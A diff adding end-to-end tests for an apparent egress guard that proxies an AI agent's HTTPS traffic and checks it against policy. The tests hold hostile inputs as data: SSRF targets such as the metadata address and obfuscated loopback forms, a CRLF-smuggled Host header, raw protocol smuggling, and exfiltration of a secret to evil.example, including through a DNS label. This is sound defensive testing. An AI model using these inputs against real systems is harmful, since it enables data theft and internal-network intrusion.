@@ -1,0 +1,470 @@
+"""The guard as an agent's HTTPS_PROXY: nothing passes unread, and nothing leads inside.
+
+Every refusal here is proven at the other end: the upstream received no byte.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import ssl
+import stat
+from typing import TYPE_CHECKING, Any
+
+import httpx
+import pytest
+
+from tests.e2e.running_guard import RunningGuard, free_port, start_guard, tool_call, wait_until
+from tests.e2e.tls_upstream import NAME, NextProxy, TlsUpstream, Tunnel, post_http2
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+SECRET = b"quarterly-figures-7731"
+POLICY = """
+version: 1
+name: forward
+mode: MODE
+internal_domains: [localhost]
+egress:
+  ports: [PORTS]
+  private: [PRIVATE]
+  passthrough: [PASSTHROUGH]
+tools:
+  - match: [http.request, http.connect]
+    role: send
+    destinations: ["$.url"]
+    body: ["$.body"]
+    ignore: ["$.method", "$.host", "$.content_type"]
+  - match: [email_send_email]
+    role: send
+    destinations: ["$.to"]
+    body: ["$.subject", "$.body"]
+rules:
+  - {id: known, type: destination, roles: [send], standing: [internal, allowed], effect: allow}
+  - {id: unknown, type: destination, roles: [send], standing: [external], effect: block}
+"""
+
+
+class Stage:
+    """A guard with a forward listener, and a TLS upstream it may reach."""
+
+    def __init__(self, directory: Path, **options: Any) -> None:
+        self.upstream = TlsUpstream(directory)
+        self.directory = directory
+        self.ca = directory / "state" / "ca"
+        self.proxy = free_port()
+        self.guard: RunningGuard = start_guard(
+            directory / "guard",
+            self.upstream,
+            policy=self.policy(**options.pop("policy", {})),
+            options=(
+                *("--forward", f"127.0.0.1:{self.proxy}", "--ca", str(self.ca)),
+                *("--upstream-ca", str(self.upstream.authority), *options.pop("options", ())),
+            ),
+            **options,
+        )
+
+    def policy(self, **changes: str) -> Path:
+        """Write the policy."""
+        text = POLICY
+        values = {"MODE": "enforce", "PORTS": str(self.upstream.port), "PRIVATE": "localhost"}
+        for name, value in (values | {"PASSTHROUGH": ""} | changes).items():
+            text = text.replace(name, value)
+        path = self.directory / "policy.yaml"
+        path.write_text(text, "utf-8")
+        return path
+
+    @property
+    def authority(self) -> str:
+        """What clients ask for."""
+        return f"{NAME}:{self.upstream.port}"
+
+    @property
+    def trust(self) -> Path:
+        """The guard's certificate."""
+        return self.ca / "mitmproxy-ca-cert.pem"
+
+    def tunnel(self, *headers: str, tls: bool = True) -> Tunnel:
+        """Open a tunnel to the upstream."""
+        tunnel = Tunnel(self.proxy)
+        assert tunnel.connect(self.authority, *headers) == 200
+        if tls:
+            tunnel.start_tls(self.trust)
+        return tunnel
+
+    def events(self) -> list[str]:
+        """Return the codes of what was refused before it was a call."""
+        return [line["code"] for line in self.guard.audit() if line["event"] == "guard.unreadable"]
+
+    def decisions(self) -> list[dict[str, Any]]:
+        """Return the audit lines of decisions."""
+        return [line for line in self.guard.audit() if line["event"] == "guard.decision"]
+
+    def close(self) -> None:
+        """Stop everything."""
+        self.guard.stop()
+        self.upstream.close()
+
+
+@pytest.fixture(scope="module")
+def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
+    """Return one stage for the tests that leave it as it was."""
+    made = Stage(tmp_path_factory.mktemp("forward"))
+    yield made
+    made.close()
+
+
+@pytest.fixture
+def build(tmp_path: Path) -> Iterator[Any]:
+    """Make stages of one's own."""
+    made: list[Stage] = []
+
+    def start(**options: Any) -> Stage:
+        made.append(Stage(tmp_path, **options))
+        return made[-1]
+
+    yield start
+    for one in made:
+        one.close()
+
+
+def request(host: str, body: bytes = b"", *headers: str, target: str = "/v1/note") -> bytes:
+    """Return a POST."""
+    lines = (f"host: {host}", f"content-length: {len(body)}", *headers)
+    head = "".join(f"{line}\r\n" for line in lines if line)
+    return f"POST {target} HTTP/1.1\r\n{head}\r\n".encode() + body
+
+
+def test_an_allowed_request_in_a_tunnel_is_judged_and_arrives(stage: Stage):
+    """TLS ends at the guard: the request in it is a call with an audit line, then goes on."""
+    before = len(stage.decisions())
+    tunnel = stage.tunnel()
+    try:
+        reply = tunnel.ask(request(stage.authority, b"all is well"))
+        again = tunnel.ask(request(stage.authority, b"still well"))
+    finally:
+        tunnel.close()
+
+    assert reply.startswith(b"HTTP/1.1 200")
+    assert again.startswith(b"HTTP/1.1 200")
+    assert b"all is well" in stage.upstream.received
+    lines = stage.decisions()[before:]
+    assert [(line["tool"], line["action"]) for line in lines] == [("http.request", "allow")] * 2
+
+
+def test_one_upstream_connection_serves_a_tunnel(stage: Stage):
+    """The pinned address does not cost a handshake for each request."""
+    before = stage.upstream.connections
+    tunnel = stage.tunnel()
+    for _ in range(3):
+        assert tunnel.ask(request(stage.authority, b"again")).startswith(b"HTTP/1.1 200")
+    tunnel.close()
+
+    assert stage.upstream.connections == before + 1
+
+
+def test_a_tool_call_in_a_tunnel_is_judged_as_one(stage: Stage):
+    """MCP through HTTPS_PROXY is MCP: a refused send gets a tool result, and nothing arrives."""
+    call = json.dumps(tool_call("eve@evil.example") | {"marker": None}).encode()
+    call = call.replace(b', "marker": null', b"")
+    before = bytes(stage.upstream.received)
+    tunnel = stage.tunnel()
+    reply = tunnel.ask(request(stage.authority, call, "content-type: application/json"))
+    tunnel.close()
+
+    assert json.loads(reply.partition(b"\r\n\r\n")[2])["result"]["isError"] is True
+    assert bytes(stage.upstream.received) == before
+
+
+def test_a_real_client_needs_an_address_and_an_authority(stage: Stage):
+    """An unchanged client goes through the guard with HTTPS_PROXY and SSL_CERT_FILE alone."""
+    context = ssl.create_default_context(cafile=str(stage.trust))
+    proxy = f"http://127.0.0.1:{stage.proxy}"
+    with httpx.Client(proxy=proxy, verify=context, trust_env=False) as client:
+        reply = client.post(f"https://{stage.authority}/real/note", content=b"well", timeout=20)
+
+    assert reply.status_code == 200
+    assert b"/real/note" in stage.upstream.received
+
+
+def test_http2_is_judged_like_http1(stage: Stage):
+    """The inner protocol changes neither verdict nor the check of the name."""
+    before = bytes(stage.upstream.received)
+    statuses = []
+    for authority, body in (("other.example", SECRET), (stage.authority, b"well in frames")):
+        tunnel = stage.tunnel(tls=False)
+        tunnel.start_tls(stage.trust, alpn=("h2",))
+        statuses.append(post_http2(tunnel, authority, body))
+        tunnel.close()
+        if authority == "other.example":
+            assert bytes(stage.upstream.received) == before
+
+    assert statuses == [421, 200]
+    assert b"well in frames" in stage.upstream.received
+
+
+REFUSED_TUNNELS = [
+    pytest.param("evil.example:22", 403, "port", id="port"),
+    pytest.param("127.0.0.1:PORT", 403, "private_address", id="loopback"),
+    pytest.param("169.254.169.254:PORT", 403, "private_address", id="metadata"),
+    pytest.param("[::ffff:127.0.0.1]:PORT", 403, "private_address", id="mapped loopback"),
+    pytest.param("[::1]:PORT", 403, "private_address", id="loopback of six"),
+    pytest.param("2130706433:PORT", 403, "private_address", id="decimal loopback"),
+    pytest.param("0x7f.1:PORT", 403, "private_address", id="hex loopback"),
+    pytest.param("0177.0.0.1:PORT", 400, "bad_host", id="octal or decimal"),
+    pytest.param("10.0.0.1:PORT", 403, "private_address", id="private"),
+    pytest.param("local host:PORT", 400, "bad_http", id="space in the host"),
+]
+
+
+@pytest.mark.parametrize(("authority", "status", "code"), REFUSED_TUNNELS)
+def test_a_tunnel_to_where_nobody_should_be_led_is_refused(
+    stage: Stage, authority: str, status: int, code: str
+):
+    """Ports and addresses are closed unless the policy opens them, in every spelling."""
+    before, seen = bytes(stage.upstream.received), len(stage.events())
+    counted = stage.guard.metric("guard_refusals_total", code=code)
+    tunnel = Tunnel(stage.proxy)
+    answer = tunnel.connect(authority.replace("PORT", str(stage.upstream.port)))
+    tunnel.close()
+
+    assert answer == status
+    assert bytes(stage.upstream.received) == before
+    assert wait_until(lambda: stage.events()[seen:], "an audit line") == [code]
+    assert stage.guard.metric("guard_refusals_total", code=code) == counted + 1
+
+
+RAW = [
+    pytest.param(b"SSH-2.0-OpenSSH_9.9\r\n" + SECRET + b"\r\n", id="ssh"),
+    pytest.param(b"EHLO evil.example\r\nMAIL FROM:<a@b>\r\n" + SECRET + b"\r\n\r\n", id="smtp"),
+    pytest.param(b"\x00\x01" + SECRET * 20 + b"\r\n\r\n", id="binary"),
+    pytest.param(b"\x16" + SECRET + b"\r\n\r\n", id="almost tls"),
+    pytest.param(b"\x16\x03\x01\x00\x05" + SECRET, id="tls record of nonsense"),
+    pytest.param(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SECRET, id="http2 without tls"),
+    pytest.param(b"CONNECT other:443 HTTP/1.1\r\nhost: other\r\n\r\n" + SECRET, id="tunnel in it"),
+]
+
+
+@pytest.mark.parametrize("data", RAW)
+def test_bytes_in_a_tunnel_that_are_not_http_go_nowhere(stage: Stage, data: bytes):
+    """Neither plain nor inside TLS do raw bytes reach, or even connect to, the upstream."""
+    before = stage.upstream.connections
+    for tls in (False, True):
+        tunnel = stage.tunnel(tls=tls)
+        tunnel.socket.settimeout(1.0)
+        reply = tunnel.ask(data)
+        tunnel.close()
+        assert not reply.startswith(b"HTTP/1.1 2")
+
+    assert stage.upstream.connections == before
+    assert SECRET not in stage.upstream.received
+
+
+MISMATCHES = [
+    pytest.param("other.example", "/note", id="another host header"),
+    pytest.param("localhost:1", "/note", id="another port"),
+    pytest.param("SELF\r\nhost: other.example", "/note", id="two hosts"),
+    pytest.param("SELF", "https://other.example/note", id="absolute target"),
+]
+
+
+@pytest.mark.parametrize(("host", "target"), MISMATCHES)
+def test_a_request_that_names_another_host_is_refused(stage: Stage, host: str, target: str):
+    """Behind a shared edge the inner name decides, so it must be the one that was judged."""
+    before = bytes(stage.upstream.received)
+    tunnel = stage.tunnel()
+    reply = tunnel.ask(request(host.replace("SELF", stage.authority), SECRET, target=target))
+    tunnel.close()
+
+    assert reply.split(b" ")[1] in {b"400", b"421"}
+    assert bytes(stage.upstream.received) == before
+
+
+def test_a_handshake_for_another_name_is_refused(stage: Stage):
+    """The name in the handshake is the name the upstream would be verified by."""
+    before = bytes(stage.upstream.received)
+    tunnel = stage.tunnel(tls=False)
+    tunnel.start_tls(stage.trust, "other.example")
+    reply = tunnel.ask(request(stage.authority, SECRET))
+    tunnel.close()
+
+    assert reply.startswith(b"HTTP/1.1 421")
+    assert bytes(stage.upstream.received) == before
+
+
+def test_a_redirect_is_a_new_request_and_judged_again(stage: Stage):
+    """Where an allowed host sends the client next, the policy has its say."""
+    tunnel = Tunnel(stage.proxy)
+    target = f"http://evil.example:{stage.upstream.port}/drop"
+    reply = tunnel.ask(request(f"evil.example:{stage.upstream.port}", SECRET, target=target))
+    tunnel.close()
+
+    assert reply.startswith(b"HTTP/1.1 403")
+    assert stage.decisions()[-1]["action"] == "block"
+
+
+def test_a_name_is_resolved_only_after_its_request_is_allowed(stage: Stage):
+    """A query for a made-up name would already carry its label to whoever serves the zone."""
+    errors = stage.guard.metric("guard_errors_total", stage="upstream")
+    tunnel = Tunnel(stage.proxy)
+    host = f"{SECRET.decode()}.evil.example:{stage.upstream.port}"
+    reply = tunnel.ask(request(host, target=f"http://{host}/"))
+    tunnel.close()
+
+    assert reply.startswith(b"HTTP/1.1 403")
+    assert stage.guard.metric("guard_errors_total", stage="upstream") == errors
+
+
+def test_a_websocket_is_refused_in_a_tunnel_too(stage: Stage):
+    """Frames would pass unjudged."""
+    before = bytes(stage.upstream.received)
+    tunnel = stage.tunnel()
+    upgrade = ("connection: upgrade", "upgrade: websocket", "sec-websocket-version: 13")
+    reply = tunnel.ask(request(stage.authority, b"", *upgrade, "sec-websocket-key: c2VjcmV0"))
+    tunnel.close()
+
+    assert reply.startswith(b"HTTP/1.1 403")
+    assert bytes(stage.upstream.received) == before
+
+
+def test_a_name_that_leads_inside_is_refused_at_the_address(build: Any):
+    """Rebinding ends here: what counts is the address that is about to be connected to."""
+    stage = build(policy={"PRIVATE": ""})
+    tunnel = stage.tunnel()
+    reply = tunnel.ask(request(stage.authority, SECRET))
+    tunnel.close()
+
+    assert reply.startswith(b"HTTP/1.1 403")
+    assert b"loopback" in reply
+    assert stage.upstream.connections == 0
+    assert stage.events() == ["private_address"]
+    assert stage.guard.metric("guard_refusals_total", code="private_address") == 1
+
+
+def test_monitor_mode_opens_no_way_inside(build: Any):
+    """Watching does not mean lending the guard's place in the network."""
+    stage = build(policy={"MODE": "monitor", "PRIVATE": ""})
+    tunnel = stage.tunnel()
+    reply = tunnel.ask(request(stage.authority, SECRET))
+    tunnel.close()
+
+    assert reply.startswith(b"HTTP/1.1 403")
+    assert stage.upstream.connections == 0
+
+
+def test_an_upstream_with_a_foreign_certificate_gets_nothing(build: Any):
+    """The guard verifies for its clients, who can only see the guard's own certificate."""
+    stage = build()
+    stranger = TlsUpstream(stage.directory / "guard", "somebody.example")
+    stage.policy(PORTS=str(stranger.port))
+    wait_until(lambda: "guard.policy" in str(stage.guard.audit()), "the reload")
+    tunnel = Tunnel(stage.proxy)
+    assert tunnel.connect(f"{NAME}:{stranger.port}") == 200
+    tunnel.start_tls(stage.trust)
+    reply = tunnel.ask(request(f"{NAME}:{stranger.port}", SECRET))
+    tunnel.close()
+    stranger.close()
+
+    assert reply.startswith(b"HTTP/1.1 502")
+    assert SECRET not in stranger.received
+
+
+def test_a_host_of_the_passthrough_list_is_one_opaque_call(build: Any):
+    """Its TLS is the upstream's own, its tunnel a call of the policy, and its name is checked."""
+    stage = build(policy={"PASSTHROUGH": "localhost"})
+    tunnel = stage.tunnel(tls=False)
+    tunnel.start_tls(stage.upstream.authority)
+    reply = tunnel.ask(request(stage.authority, b"sealed"))
+    tunnel.close()
+
+    assert reply.startswith(b"HTTP/1.1 200")
+    assert [(d["tool"], d["action"]) for d in stage.decisions()] == [("http.connect", "allow")]
+
+    # Another name in the handshake is not what was judged: that one is opened, and refused.
+    tunnel = stage.tunnel(tls=False)
+    tunnel.start_tls(stage.trust, "other.example")
+    assert tunnel.ask(request(stage.authority, SECRET)).startswith(b"HTTP/1.1 421")
+    tunnel.close()
+
+    # And bytes that are no TLS are read as HTTP, like in any tunnel.
+    tunnel = stage.tunnel(tls=False)
+    tunnel.socket.settimeout(1.0)
+    assert not tunnel.ask(SECRET + b"\r\n\r\n").startswith(b"HTTP/1.1 2")
+    tunnel.close()
+    assert SECRET not in stage.upstream.received
+
+
+def test_a_passthrough_host_that_the_policy_does_not_allow_stays_closed(build: Any):
+    """The bypass list says what is not opened, never what is allowed."""
+    stage = build(policy={"PASSTHROUGH": "evil.example"})
+    tunnel = Tunnel(stage.proxy)
+
+    assert tunnel.connect(f"evil.example:{stage.upstream.port}") == 403
+    tunnel.close()
+    assert stage.decisions()[-1]["tool"] == "http.connect"
+    assert stage.decisions()[-1]["action"] == "block"
+
+
+def test_a_tunnel_needs_a_credential_where_one_is_required(build: Any, tmp_path: Path):
+    """The credential of the CONNECT names the principal of every request in the tunnel."""
+    path = tmp_path / "principals.toml"
+    path.write_text(f'scribe = "{hashlib.sha256(b"s3cret").hexdigest()}"\n', "utf-8")
+    stage = build(options=("--credentials", str(path)))
+    tunnel = Tunnel(stage.proxy)
+    assert tunnel.connect(stage.authority) == 407
+    assert b"proxy-authenticate: Basic" in tunnel.reply
+    tunnel.close()
+
+    token = base64.b64encode(b"scribe:s3cret").decode()
+    tunnel = stage.tunnel(f"proxy-authorization: Basic {token}", "x-guard-session: s-1")
+    assert tunnel.ask(request(stage.authority, b"well")).startswith(b"HTTP/1.1 200")
+    tunnel.close()
+
+    line = stage.decisions()[-1]
+    assert (line["principal"], line["session"]) == ("scribe", "s-1")
+    assert token.encode() not in stage.upstream.received
+    assert stage.events() == ["bad_credential"]
+
+
+def test_the_guard_goes_through_another_proxy_where_told(build: Any):
+    """Behind a corporate proxy: with its credential, and only after a verdict."""
+    proxy = NextProxy()
+    stage = build(options=("--upstream-proxy", f"http://me:pw@127.0.0.1:{proxy.port}"))
+    tunnel = stage.tunnel()
+    assert proxy.heads == []
+    assert tunnel.ask(request(stage.authority, b"well")).startswith(b"HTTP/1.1 200")
+    tunnel.close()
+    plain = Tunnel(stage.proxy)
+    target = f"http://{stage.authority}/plain"
+    assert plain.ask(request(stage.authority, b"", target=target)).startswith(b"HTTP/1.1 200")
+    plain.close()
+    proxy.close()
+
+    expected = f"proxy-authorization: Basic {base64.b64encode(b'me:pw').decode()}".lower().encode()
+    assert [head.split(b" ")[0] for head in proxy.heads] == [b"CONNECT", b"POST"]
+    assert all(expected in head.lower() for head in proxy.heads)
+    assert proxy.heads[1].startswith(f"POST {target} ".encode())
+
+
+def test_the_authority_is_made_once_and_is_its_users_alone(build: Any):
+    """A second start uses the same authority; a key that others could read is not used."""
+    stage = build()
+    key = stage.ca / "mitmproxy-ca.pem"
+    first = key.read_bytes()
+
+    assert stat.S_IMODE(stage.ca.stat().st_mode) == 0o700
+    assert stat.S_IMODE(key.stat().st_mode) == 0o600
+    stage.guard.stop()
+    key.chmod(0o644)
+    options = ("--forward", f"127.0.0.1:{stage.proxy}", "--ca", str(stage.ca))
+    policy = stage.directory / "policy.yaml"
+    again = start_guard(
+        stage.directory / "again", stage.upstream, policy=policy, options=options, wait=False
+    )
+
+    assert again.process.wait(30) == 1
+    assert "must be yours alone" in again.log_path.read_text("utf-8")
+    assert key.read_bytes() == first
